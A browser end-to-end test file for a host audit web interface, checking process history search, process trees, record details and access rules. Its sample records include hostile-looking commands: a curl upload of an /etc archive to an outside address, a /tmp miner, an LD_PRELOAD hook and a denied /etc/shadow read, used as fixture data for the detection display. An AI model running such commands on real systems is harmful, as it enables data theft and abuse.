// SPDX-License-Identifier: Apache-2.0
//
// Called by tests/browser/run: a host whose processes have lives (lives.py), what was executed on it, one process with its tree, its
// detail and its records, while it lives and when it is over.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { createInterface } from 'node:readline';
import { launch, Walk } from './pages.mjs';
import { ownServer, PASSWORD } from './server.mjs';

const { DIR, LOGS } = process.env;

const { port, url, data, command, log, server } = await ownServer('processes', ['viewer', 'admin']);

const token = command(['token', 'create']).split('\n')[0].trim();
const lives = spawn('python3', ['tests/browser/lives.py', String(port), data, token], { stdio: ['pipe', 'pipe', log] });
writeFileSync(`${DIR}/lives.pid`, String(lives.pid));
const said = createInterface({ input: lives.stdout })[Symbol.asyncIterator]();
const { id, uids } = JSON.parse((await said.next()).value);
/** Has the host go on, until the server has what it says. */
const tell = async (word) => {
  lives.stdin.write(`${word}\n`);
  assert.equal((await said.next()).value, 'done');
};

const browser = await launch();
const walk = new Walk('processes', browser, url, { expected: [401] });
const { has, go, quiet, accessible } = walk;
const execs = `/hosts/${id}/processes`;
const at = (pid) => `${execs}/${encodeURIComponent(uids[pid])}`;
let page;

async function enter(user, path, options = {}) {
  page = await walk.open(options);
  await page.goto(url + path);
  await page.fill('input[name=username]', user);
  await page.fill('input[name=password]', PASSWORD);
  await page.keyboard.press('Enter');
  await page.waitForSelector('.shell');
}

const shoot = (name) => page.screenshot({ path: `${LOGS}/processes-${name}.png` });
const commands = () => page.locator('tbody .exec-cmd').allTextContents();
const names = () => page.locator('.ptree-row .ptree-name').allTextContents();

await walk.test('from the host to what was executed on it', async () => {
  await enter('u-viewer', `/hosts/${id}`);
  await page.click('.page-do a:has-text("Processes")');
  await page.waitForSelector('tbody .exec-cmd');
  await has('Processes of web-07');
  assert.equal((await commands())[0], 'ls -l /srv/29');
  await accessible('what was executed');
});

await walk.test('words of the command line, fields, and what was denied', async () => {
  await page.fill('input[type=search]', 'mnt backup');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 3);
  assert.deepEqual(await commands(), [
    'curl -T /mnt/last-backup/etc.tar https://203.0.113.9/put',
    'tar --create --file /mnt/last-backup/etc.tar /etc',
    "python3 /srv/backup.py --to '/mnt/last backup'",
  ]);
  await has('exit code 22');
  await shoot('history');
  await page.fill('input[type=search]', 'user:www-data worker');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.chip:has-text("www-data")');
  await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 4);
  await page.click('.chip:has-text("www-data")');
  await page.click('button:has-text("Clear filters")');
  await page.click('text=only what was denied');
  await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 1);
  assert.deepEqual(await commands(), ['/tmp/.x/miner --pool 203.0.113.66']);
  await has('not allowed');
  await has('no programs in /tmp');
  await page.fill('input[type=search]', 'nowhere-at-all');
  await page.keyboard.press('Enter');
  await has('Nothing was executed that matches');
  // The way back is the browser's own.
  await page.goBack();
  await page.waitForSelector('tbody tr');
});

await walk.test('a process: its tree, by keys', async () => {
  await go(at(2401), '.ptree-self');
  await quiet();
  // So many brothers are not asked for.
  assert.ok(!(await names()).includes('vim.basic'));
  await page.check('label:has-text("Show siblings") input');
  const before = await names();
  assert.deepEqual(before.slice(0, 5), ['systemd', 'sshd', 'sshd', 'bash', 'python3.11']);
  assert.ok(before.includes('tar') && before.includes('curl') && before.includes('vim.basic'));
  assert.equal(await page.locator('.ptree-denied .ptree-denials').first().textContent(), '1 denial');
  assert.equal(await page.locator('.ptree-denied:has(.ptree-name:has-text("tar")) .ptree-denials').textContent(), '3 denials');
  await page.focus('.ptree-self');
  await page.keyboard.press('ArrowLeft');
  await page.waitForSelector('.ptree-self[aria-expanded=false]');
  assert.ok(!(await names()).includes('tar'));
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowRight');
  assert.equal(await page.evaluate(() => document.activeElement.querySelector('.ptree-name').textContent), 'tar');
  await page.uncheck('label:has-text("Show siblings") input');
  await page.waitForFunction(() => ![...document.querySelectorAll('.ptree-name')].some((e) => e.textContent === 'vim.basic'));
  await accessible('a process');
  await page.focus('.ptree-self');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.ptree-self .ptree-name:has-text("tar")');
  await has('exit code 2');
});

await walk.test('a process: all that its record says', async () => {
  await go(at(2401), '.ptree-self');
  await quiet();
  await shoot('process');
  const facts = await page.innerText('.facts-wide');
  for (const text of ['/srv/backup.py', "python3 /srv/backup.py --to '/mnt/last backup'", '/srv/www', 'LD_PRELOAD=/tmp/x.so', '10.0.0.9:4444 → 198.51.100.7:51515',
    'terminal /dev/pts/3', 'CAP_DAC_READ_SEARCH CAP_NET_RAW', 'net 4026532222', 'with more privileges than who started it', '00070e151c23', 'python3.11-minimal 3.11.2-6+deb12u3',
    'ssh 3', 'from the network', uids[2401]])
    assert.ok(facts.includes(text), `${text} is not in ${facts}`);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.click('.fact:has(dt:text-is("Command line")) .copy-value');
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "python3 /srv/backup.py --to '/mnt/last backup'");
});

await walk.test('a process: its records, and from a record to its process', async () => {
  await go(at(2402), '.rows-box .row-denied');
  await page.click('.rows-box .row-denied .row-open');
  await page.waitForSelector('dialog .tree-actor');
  await page.click('dialog .tree-ancestor a:has-text("python3.11")');
  await page.waitForSelector('.ptree-self .ptree-name:has-text("python3.11")');
  await go(at(2402), '.rows-box .row-denied');
  await page.click('text=Search in them');
  await page.waitForSelector('.chip:has-text("process")');
  await page.waitForSelector('.rows-box .row-denied');
  const paths = await page.locator('.rows-box .row-denied .row-what').allTextContents();
  assert.equal(paths.length, 1);
  assert.match(paths[0], /etc\/shadow/);
});

await walk.test('what runs now, and it ends while somebody looks', async () => {
  await go(`${execs}?view=running`, '.ptree-row');
  const running = await names();
  assert.ok(running.includes('vim.basic') && running.includes('systemd'), `${running}`);
  assert.ok(!running.includes('curl') && !running.includes('ls'), `${running}`);
  await accessible('what runs');
  await shoot('running');
  await go(at(2450), '.facts-wide .state:has-text("runs")');
  await tell('end');
  await page.waitForSelector('.facts-wide .state:has-text("ended")', { timeout: 25_000 });
  await go(execs, 'tbody .exec-cmd');
  await tell('more');
  await page.waitForSelector('tbody .exec-cmd:has-text("less /var/log/backup.log")', { timeout: 25_000 });
});

await walk.test('a process that nobody tells of', async () => {
  walk.expected.push(404);
  await go(`${execs}/nobody`, '.empty');
  await has('No record tells of this process');
});

await walk.test('an admin, who may not look at records, does not see them', async () => {
  await enter('u-admin', `/hosts/${id}`);
  await page.waitForSelector('.facts-wide');
  assert.equal(await page.locator('.page-do a:has-text("Processes")').count(), 0);
  await go(execs, 'main h1');
  await has('There is no page here');
});

await walk.test('in Chinese, dark, on a phone', async () => {
  await enter('u-viewer', execs, { viewport: { width: 390, height: 844 }, hasTouch: true, locale: 'zh-CN', colorScheme: 'dark' });
  await page.waitForSelector('tbody .exec-cmd');
  await quiet();
  await shoot('history-phone');
  await accessible('what was executed, on a phone');
  await go(at(2401), '.ptree-self');
  await has('标准输入');
  await quiet();
  await shoot('process-phone');
  await accessible('a process, on a phone');
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.equal(wide, 0);
});

await browser.close();
lives.stdin.end();
server.kill();
process.exit(walk.end());
